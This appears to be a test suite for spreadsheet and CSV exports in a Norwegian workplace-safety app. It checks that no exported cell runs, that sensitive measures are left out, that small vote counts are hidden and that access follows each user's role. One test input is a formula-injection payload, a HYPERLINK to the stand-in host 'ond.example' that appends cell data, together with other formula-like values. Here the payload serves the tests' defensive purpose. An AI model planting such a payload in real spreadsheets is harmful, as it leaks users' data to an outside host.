/* Files for spreadsheets, read back by others: no cell runs, sensitive measures are in none, votes of few are not told. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { after, before, test } from 'node:test';
import { choose } from '../lib/chosen.mjs';
import { heldOnPaper } from '../lib/paper.mjs';
import { startServer } from '../lib/server.mjs';
import { addPerson, allAgree, anchor, begin, setUp } from '../lib/workplace.mjs';
import { Workbook } from '../lib/xlsx.mjs';

const SECRET = 'Samtale om det som skjedde fredag';
const FORMULA = '=HYPERLINK("http://ond.example/?"&A1;"Trykk")';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const day = (n) => new Date(Date.now() + n * 86400e3).toISOString().slice(0, 10);
let server, place, staff, superior, list;

async function write(who, values) {
	const form = await who.get(`${list}/new`);
	const f = form.page.formTo('/measures/new');
	const owner = values.owner && form.page.all('#field-owner option').find((o) => o.textContent === values.owner)?.getAttribute('value');
	const r = await who.follow(await who.post(`${list}/new`, [...form.page.fieldsOf(f).filter(([n]) => !(n in values)), ...Object.entries({ ...values, ...(owner ? { owner } : {}) })]));
	assert.equal(r.status, 200, r.page.words('main').slice(0, 400));
	return r;
}

async function decided(values) {
	const r = await write(place.leader, values);
	await place.leader.submit(r, `${list}/ask`);
	const card = await place.leader.get(r.path);
	await allAgree(place, card.page.links().find((l) => /\/agreements\/\d+$/.test(l)));
}

before(async () => {
	server = await startServer();
	place = await setUp(server);
	await choose(server, place);
	staff = await addPerson(server, place, 'staff', 'Anna Ansatt');
	superior = await addPerson(server, place, 'superior', 'Sigurd Overordnet');
	list = `/u/${place.unit}/measures`;
	await decided({ title: FORMULA, what: '-1+1\nandre linje; "sitat"', owner: 'Anna Ansatt', start: day(1), due: day(30), sign: '@SUM(A1)', cause: '+47 er ingen årsak' });
	await decided({ title: 'Stille rapport', what: 'Alle leser selv først 🙂 áŋŧ', owner: 'Lise Leder', due: day(60) });
	await write(place.leader, { title: SECRET, what: SECRET, owner: 'Lise Leder', due: day(10), sensitive: '1' });
	await write(place.union, { title: 'Forslag som venter', what: 'Noe', who: 'Alle' });
});
after(() => server?.close());

async function fetched(who, path, type, name) {
	const r = await who.get(path);
	assert.equal(r.status, 200, `${path}: ${r.status} ${r.page.words().slice(0, 300)}`);
	assert.equal(r.headers['content-type'], type);
	assert.match(r.headers['content-disposition'], new RegExp(`^attachment; filename="${name}-solbakken-sykehjem-\\d{4}-\\d\\d-\\d\\d\\.(xlsx|csv)"$`));
	assert.equal(r.headers['cache-control'], 'no-store');
	assert.equal(r.headers['x-content-type-options'], 'nosniff');
	return r.bytes;
}
const book = async (who, path, name) => new Workbook(await fetched(who, path, XLSX, name));

/* Fields by RFC 4180 with ";", from the bytes. */
function csv(bytes) {
	assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'the mark Excel looks for');
	const text = new TextDecoder('utf8', { fatal: true, ignoreBOM: true }).decode(bytes).slice(1);
	assert.ok(text.endsWith('\r\n'));
	const rows = [];
	for (let at = 0; at < text.length; ) {
		const row = [];
		for (;;) {
			const m = /"((?:[^"]|"")*)"|([^;\r\n"]*)/y;
			m.lastIndex = at;
			const [whole, quoted, bare] = m.exec(text);
			row.push({ text: quoted === undefined ? bare : quoted.replaceAll('""', '"'), quoted: quoted !== undefined });
			at += whole.length;
			if (text[at] !== ';') break;
			at++;
		}
		assert.equal(text.slice(at, at + 2), '\r\n', `a line ends in CRLF at ${at}: ${text.slice(at - 20, at + 20)}`);
		at += 2;
		rows.push(row);
	}
	return rows;
}

/* Nothing a spreadsheet would run, by the parts of the workbook. */
function runsNothing(b) {
	for (const [name, bytes] of Object.entries(b.parts)) {
		assert.doesNotMatch(name, /vba|macro|externalLink|connection|hyperlink/i);
		if (/worksheets\/sheet/.test(name)) assert.doesNotMatch(bytes.toString(), /<f[ >]|<hyperlink|t="str"/);
	}
}

test('measures as a workbook: strings are strings, dates are dates, and it can be read as it opens', async () => {
	const b = await book(place.leader, `/u/${place.unit}/files/measures?as=xlsx`, 'tiltak');
	runsNothing(b);
	const rows = b.table();
	assert.deepEqual(rows.map((r) => r.Tiltak).sort(), [FORMULA, 'Forslag som venter', 'Stille rapport'].sort());
	const one = rows.find((r) => r.Tiltak === FORMULA);
	assert.equal(one['Hva vi gjør'], '-1+1\nandre linje; "sitat"');
	assert.equal(one.Frist.toISOString().slice(0, 10), day(30));
	assert.equal(one.Ansvarlig, 'Anna Ansatt');
	assert.equal(Object.values(one)[8], '@SUM(A1)');
	const tab = b.tabs[0];
	assert.ok(tab.frozen, 'the head stands still');
	assert.equal(tab.widths.length, Object.keys(one).length);
	assert.ok(tab.widths.every((w) => w >= 6 && w <= 60));
	assert.ok(b.wraps(tab.doc.querySelector('c[r="B2"]').getAttribute('s')), 'long texts go on over lines');
	assert.match(tab.doc.toString(), /<autoFilter ref="A1:/);
	assert.match(b.parts['docProps/core.xml'].toString(), /Solbakken sykehjem/);
});

test('a spreadsheet library reads the same', async () => {
	const bytes = await fetched(staff, `/u/${place.unit}/files/measures`, XLSX, 'tiltak');
	const r = spawnSync('/usr/bin/python3', ['-c', `
import sys, io, json, openpyxl
w = openpyxl.load_workbook(io.BytesIO(sys.stdin.buffer.read()))
s = w.worksheets[0]
print(json.dumps([[[c.data_type, str(c.value)] for c in row] for row in s.iter_rows()]))
print(s.freeze_panes)`], { input: bytes, encoding: 'utf8' });
	assert.equal(r.status, 0, r.stderr);
	const [cells, frozen] = r.stdout.trim().split('\n');
	assert.equal(frozen, 'A2');
	const flat = JSON.parse(cells).flat();
	assert.ok(flat.some(([type, value]) => type === 's' && value === FORMULA) || flat.some(([, value]) => value === FORMULA));
	/* openpyxl calls a string that begins with "=" a formula when it writes, never when the file says string. */
	assert.deepEqual(flat.filter(([type]) => type === 'f'), []);
	assert.ok(flat.some(([type, value]) => type === 'd' && value.startsWith(day(30))));
});

test('measures as CSV: byte by byte what Excel in Norwegian opens, and no field is a formula', async () => {
	const rows = csv(await fetched(place.safety, `/u/${place.unit}/files/measures?as=csv`, 'text/csv; charset=utf-8; header=present', 'tiltak'));
	assert.ok(rows.every((r) => r.length === rows[0].length));
	for (const c of rows.flat()) if (c.quoted) assert.doesNotMatch(c.text, /^[\s\u00a0]*[=+\-@\t\r\n]/, JSON.stringify(c));
	const one = rows.find((r) => r[0].text === `'${FORMULA}`);
	assert.ok(one, JSON.stringify(rows.map((r) => r[0].text)));
	assert.equal(one[1].text, '\'-1+1\nandre linje; "sitat"');
	const [y, m, d] = day(30).split('-');
	assert.deepEqual(one[6], { text: `${d}.${m}.${y}`, quoted: false });
	assert.ok(one.some((c) => c.text === "'+47 er ingen årsak"));
	assert.ok(rows.flat().some((c) => c.text === 'Alle leser selv først 🙂 áŋŧ'));
});

test('the file holds what the list shows, by the same filter, and the page leads to it', async () => {
	const page = await place.leader.get(`${list}?show=mine`);
	const links = page.page.links().filter((l) => /\/files\/measures/.test(l));
	assert.equal(links.length, 2);
	const b = await book(place.leader, links.find((l) => /xlsx/.test(l)), 'tiltak');
	assert.deepEqual(b.table().map((r) => r.Tiltak), ['Stille rapport']);
	assert.equal(page.page.all('li.measure').length, 1);
	const board = page.page.links().find((l) => /as=board/.test(l));
	assert.equal((await place.leader.get(board)).page.all('.board li.measure').length, 1, 'the tabs keep the filter');
	const none = await book(place.leader, `/u/${place.unit}/files/measures?area=preserve`, 'tiltak');
	assert.deepEqual(none.table(), []);
	assert.deepEqual((await book(place.leader, `/p/${place.process}/files/measures`, 'tiltak')).table(), [], 'none of them came from this process');
});

test('a sensitive measure is in no file, whoever asks', async () => {
	const files = [`/u/${place.unit}/files/measures`, `/u/${place.unit}/files/measures?show=mine`, `/p/${place.process}/files/measures`, `/p/${place.process}/files/action-plan`, `/p/${place.process}/files/results`];
	for (const who of [place.leader, place.union, place.safety])
		for (const path of files)
			for (const as of ['xlsx', 'csv']) {
				const r = await who.get(`${path}${path.includes('?') ? '&' : '?'}as=${as}`);
				assert.equal(r.status, 200, path);
				const text = as === 'xlsx' ? new Workbook(r.bytes).text : r.text;
				assert.doesNotMatch(text, new RegExp(SECRET), path);
			}
	assert.match((await place.leader.get(list)).page.words('main'), /Sensitiv/i, 'it is there');
});

test('those above get counts, not the file', async () => {
	assert.equal((await superior.get(`/u/${place.unit}/files/measures`)).status, 403);
	assert.equal((await staff.get(`/p/${place.process}/files/action-plan`)).status, 403);
	assert.equal((await staff.get(`/p/${place.process}/files/results`)).status, 403);
});

test('the action plan has the columns the law asks for, and says who made it', async () => {
	const b = await book(place.union, `/p/${place.process}/files/action-plan`, 'handlingsplan');
	runsNothing(b);
	assert.deepEqual(b.tabs[0].rows[0], ['Nr.', 'Område', 'Utfordring eller årsak', 'Tiltak', 'Hva vi gjør', 'Ansvarlig', 'Frist', 'Når, med ord', 'Status', 'Evaluering', 'Faktor i § 4-3']);
	const rows = b.table();
	assert.deepEqual(rows.map((r) => [r['Nr.'], r.Tiltak]), [[1, FORMULA], [2, 'Stille rapport']], 'what waits for an answer is no plan yet');
	const about = b.tabs[1].rows.map((r) => r.join('|')).join('\n');
	for (const said of ['Solbakken sykehjem', 'Lise Leder', 'Tor Tillitsvalgt', 'Vera Verneombud', 'Underskrift']) assert.match(about, new RegExp(said));
	const plan = csv(await fetched(place.leader, `/p/${place.process}/files/action-plan?as=csv`, 'text/csv; charset=utf-8; header=present', 'handlingsplan'));
	assert.deepEqual(plan.slice(1).map((r) => r[0]), [{ text: '1', quoted: false }, { text: '2', quoted: false }]);
});

test('the process in figures: themes with counts, never a note', async () => {
	const b = await book(place.safety, `/p/${place.process}/files/results`, 'temaer-og-valg');
	runsNothing(b);
	assert.deepEqual(b.tabs.map((t) => t.name), ['Temaer', 'Valg', 'Møter og verksteder']);
	const themes = b.table(0);
	const one = themes.find((t) => t.Tema === 'Beskjeder blir borte');
	assert.deepEqual([one['Antall lapper'], one['Antall stemmer'], one['Plass i avstemningen']], [1, 9, 1]);
	assert.match(Object.values(one)[6], /valgt av personalet/);
	for (const note of ['Ingen leser tavla', 'Alt skal skje før åtte', 'Det er fullt', 'Humor']) assert.doesNotMatch(b.text, new RegExp(note));
	const choices = b.table(1);
	assert.ok(choices.some((c) => c.Tittel === 'For lite tid om morgenen' && c['Antall stemmer'] === 7));
	for (const table of ['themes', 'choices', 'gatherings']) {
		const rows = csv((await place.leader.get(`/p/${place.process}/files/results?as=csv&table=${table}`)).bytes);
		assert.ok(rows.length > 1, table);
	}
	assert.equal((await place.leader.get(`/p/${place.process}/files/results?as=csv&table=notes`)).status, 404);
});

test('in each language, and the page of reports leads there', async () => {
	const page = await place.leader.get(`/p/${place.process}/reports`);
	const links = page.page.links().filter((l) => /\/files\//.test(l));
	assert.equal(links.length, 6);
	for (const l of links) assert.equal((await place.leader.get(l)).status, 200, l);
	const nn = new Workbook((await place.leader.get(`/p/${place.process}/files/results?lang=nn`)).bytes);
	assert.equal(nn.tabs[1].name, 'Val');
	const en = new Workbook((await place.leader.get(`/p/${place.process}/files/action-plan?lang=en`)).bytes);
	assert.equal(en.tabs[0].rows[0][5], 'Responsible');
});

test('votes of few are an order, in every file', async () => {
	const small = await startServer();
	try {
		const p = await setUp(small);
		await begin(p);
		await anchor(p);
		const sitting = Number(small.db.rows("SELECT id FROM sitting WHERE phase = 'utforske' AND kind = 'staff' ORDER BY id LIMIT 1")[0][0]);
		await heldOnPaper(small, p.safety, sitting, {
			voters: 4,
			themes: [
				{ step: 'vanskelig-temaer', name: 'Beskjeder', notes: ['En'], dots: 4 },
				{ step: 'vanskelig-temaer', name: 'Morgener', notes: ['To'], dots: 3 },
			],
		});
		const themes = new Workbook((await p.leader.get(`/p/${p.process}/files/results`)).bytes).table(0);
		assert.deepEqual(themes.map((t) => [t.Tema, t['Antall stemmer'], t['Plass i avstemningen']]), [['Beskjeder', '', 1], ['Morgener', '', 2]]);
		const rows = csv((await p.leader.get(`/p/${p.process}/files/results?as=csv&table=themes`)).bytes);
		assert.deepEqual(rows.slice(1).map((r) => r[4].text), ['', '']);
	} finally {
		await small.close();
	}
});
